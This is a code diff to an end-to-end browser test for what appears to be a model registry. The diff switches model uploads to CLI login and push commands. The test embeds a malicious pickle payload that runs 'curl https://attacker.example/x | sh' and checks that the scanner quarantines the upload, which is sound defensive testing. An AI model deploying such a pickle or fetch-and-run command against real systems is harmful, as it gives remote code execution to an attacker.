@@ -1,5 +1,5 @@
 """End to end in headless Chromium against a real server over TLS: log in with TOTP, push a
-model with the client, read its scan report, release it as admin, fail to as a reader,
+model with the CLI, read its scan report, release it as admin, fail to as a reader,
 search the audit log."""
 
 from __future__ import annotations
@@ -8,9 +8,11 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from click.testing import CliRunner
 
 from bastion.audit import AuditEvent, Outcome
 from bastion.auth.base import Role
+from bastion.cli.main import cli
 from tests.console.browser.conftest import LiveSite, log_in, screenshot
 
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
@@ -19,12 +21,21 @@ EVIL = b"cos\nsystem\n(S'curl https://attacker.example/x | sh'\ntR."
 
 
 def _push(live: LiveSite, tmp_path: Path, version: str) -> None:
+    """``bastion login`` then ``bastion push``, the commands a publisher runs."""
+    env = {
+        "BASTION_LOGIN_FILE": str(tmp_path / "login.json"),
+        "BASTION_TOKEN": live.site.admin_token,
+    }
+    runner = CliRunner()
+    login = runner.invoke(cli, ["login", live.url, "--ca-cert", str(live.site.paths.cert)], env=env)
+    assert login.exit_code == 0, login.output
     folder = tmp_path / f"model-{version}"
     folder.mkdir()
     (folder / "model.pkl").write_bytes(EVIL)
     (folder / "config.json").write_text('{"architectures": ["BertModel"]}')
-    info = live.admin.push(folder, f"team/sentiment:{version}")
-    assert info["state"] == "quarantined"
+    pushed = runner.invoke(cli, ["push", str(folder), f"team/sentiment:{version}"], env=env)
+    assert pushed.exit_code == 1, pushed.output  # 1: pushed, but quarantined
+    assert "quarantined" in pushed.output
 
 
 def test_admin_reads_the_report_releases_and_finds_it_in_the_audit_log(
